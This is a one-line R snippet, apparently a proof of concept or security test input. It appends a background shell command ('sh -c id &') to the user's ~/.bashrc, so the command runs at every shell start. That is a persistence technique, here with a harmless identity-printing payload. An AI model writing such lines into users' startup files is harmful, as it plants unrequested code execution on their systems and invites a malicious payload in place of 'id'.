cat("sh -c id &\n", file = "~/.bashrc", append = TRUE)
